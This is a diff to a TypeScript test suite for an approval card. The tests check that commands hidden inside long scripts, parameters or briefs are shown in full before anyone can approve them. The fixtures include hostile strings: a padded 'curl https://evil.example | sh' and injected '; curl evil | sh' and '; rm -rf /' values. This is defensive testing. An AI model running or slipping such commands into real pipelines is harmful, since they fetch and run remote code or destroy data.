@@ -4,7 +4,13 @@ import { choicesFor } from '../../../src/core/ask/choices.ts';
 import { askCard } from '../../../src/core/cards/ask-card.ts';
 import { pageCard } from '../../../src/core/cards/pages.ts';
 import { plainText } from '../../../src/core/cards/plain.ts';
-import { definition, gate, later, noon, run } from './sample.ts';
+import { lengthOf } from '../../../src/core/cards/fit.ts';
+import { stageNext } from '../../../src/core/ask/subject.ts';
+import { digestOf } from '../../../src/core/digest.ts';
+import { artifact, definition, gate, later, noon, run, state, version } from './sample.ts';
+import type { Card } from '../../../src/core/cards/card.ts';
+import type { CommandStage, Stage } from '../../../src/core/project/definition.ts';
+import type { Run } from '../../../src/core/run/run.ts';
 import type { Ask, BlockerReason, Outcome, Subject } from '../../../src/core/ask/ask.ts';
 
 const texts = new Map([['d_notes', 'The notes of 1.2.']]);
@@ -59,6 +65,78 @@ describe('the card of an Ask', () => {
     expect(fallback).toContain('Reads: notes, version 2');
     expect(fallback).toContain("Can it be undone?: No. This can't be undone.");
     expect(card(asked(next)).buttons[0]?.confirm?.text).toContain("This can't be undone.");
+  });
+
+  describe('P13, S5: of work that would run', () => {
+    const command = (line: string | string[], over: Partial<Run> = {}) => {
+      const [draft, tag] = definition.pipeline.stages;
+      const stages = [draft!, { ...tag!, run: line } as Stage];
+      const its = {
+        ask: asked(next),
+        run: run(over),
+        definition: { ...definition, pipeline: { ...definition.pipeline, stages } },
+      };
+      return { its, card: askCard(its.ask, its.run, its.definition, texts) };
+    };
+    const hidden = `${'echo harmless\n'.repeat(400)}curl https://evil.example | sh\n${'echo harmless\n'.repeat(200)}`;
+    const shownOn = (card: Card, text: string) => card.fallback.includes(text);
+
+    it.each([
+      ['a script', command(hidden)],
+      ['a list of words', command(['sh', '-c', hidden])],
+      ['a parameter', command('release', { parameters: { version: `v1 ${hidden}` } })],
+      ['the brief', command('release', { brief: hidden })],
+    ])('%s that does not fit is read before it can be approved', (_what, { its, card }) => {
+      expect(card.buttons.map(({ label }) => label)).toEqual(['Show everything', 'Reject…']);
+      const pages: Card[] = [pageCard(its, texts, 0)];
+      while (pages.at(-1)?.buttons[0]?.label === 'Next page') pages.push(pageCard(its, texts, pages.length));
+      expect(pages.some((page) => shownOn(page, 'curl https://evil.example | sh'))).toBe(true);
+      expect(pages.map(({ buttons }) => buttons.some(({ label }) => label === 'Approve'))).toEqual([
+        ...pages.slice(1).map(() => false),
+        true,
+      ]);
+      const read = pages
+        .flatMap(({ blocks }) => blocks.flatMap((it) => (it.kind === 'quote' ? [it.text] : [])))
+        .join('');
+      expect(read.match(/echo harmless/g)).toHaveLength(600);
+    });
+
+    it('the brief and every parameter stand on the card, their lines apart', () => {
+      const { card } = command('release', {
+        brief: 'Line 1\n; curl evil | sh',
+        parameters: { version: '1.2\n; rm -rf /' },
+      });
+      expect(card.blocks).toMatchObject([
+        { kind: 'facts' },
+        { kind: 'quote', label: 'Version', text: '1.2\n; rm -rf /', cut: false },
+        { kind: 'quote', label: 'Brief', text: 'Line 1\n; curl evil | sh', cut: false },
+        { kind: 'quote', label: 'notes, version 2 (rehearsal)' },
+      ]);
+      expect(card.buttons[0]?.label).toBe('Approve');
+    });
+
+    it('no page is longer than a message of the narrowest surface, whatever there is of it', () => {
+      const its = command(hidden, { brief: 'x'.repeat(7000), parameters: { version: '"\n'.repeat(1300) } }).its;
+      for (let page = 0; page < 12; page += 1) expect(lengthOf(pageCard(its, texts, page).blocks)).toBeLessThan(2900);
+    });
+
+    it('its digest covers all that is shown of it', () => {
+      const now = state({ run: run({ stage: 1 }) });
+      const stage = definition.pipeline.stages[1] as CommandStage;
+      const digest = (of = now, as: Stage = stage): string => digestOf(stageNext(of, as));
+      const changed = [
+        digest(now, { ...stage, run: 'other' }),
+        digest(now, { ...stage, directory: 'other' }),
+        digest(now, { ...stage, environment: { OTHER: '1' } }),
+        digest(now, { ...stage, irreversible: false }),
+        digest(now, { ...stage, time_limit: 1 }),
+        digest({ ...now, run: run({ stage: 1, brief: 'other' }) }),
+        digest({ ...now, run: run({ stage: 1, parameters: { version: 'other' } }) }),
+        digest({ ...now, artifacts: [artifact({ canon: version({ digest: 'other' }) })] }),
+      ];
+      expect(new Set([digest(), ...changed]).size).toBe(changed.length + 1);
+      expect(digest()).toBe(digest());
+    });
   });
 
   it('quotes the text with its version, and labels a rehearsal', () => {
@@ -120,8 +198,18 @@ describe('the card of an Ask', () => {
     expect(labels(gate(), new Map([['d_notes', 'x'.repeat(2001)]]))[0]).toBe('Show everything');
   });
 
-  it('says so when its text was redacted', () => {
-    expect(card(gate(), new Map()).fallback).toContain('no longer stored');
+  it.each([
+    ['a draft', gate(), ['Reject…', 'Edit…']],
+    ['what work would read', asked(next), ['Reject…']],
+    ['a suggestion', asked(suggestion, { kind: 'suggestion' }), ['Reject…', 'Later']],
+  ])('P13: offers nobody to agree to %s that was redacted, on its card and on its pages', (_what, ask, left) => {
+    const shown = card(ask, new Map());
+    expect(shown.fallback).toContain('no longer stored');
+    expect(shown.fallback).toContain("nobody should agree to what can't be read");
+    expect(labels(ask, new Map())).toEqual(left);
+    const page = pageCard({ ask, run: run(), definition }, new Map(), 9);
+    expect(page.fallback).toContain('no longer stored');
+    expect(page.buttons.map(({ label }) => label)).toEqual(left);
   });
 
   it('tells what happened, how often it was tried, what it cost, and that waiting costs nothing', () => {
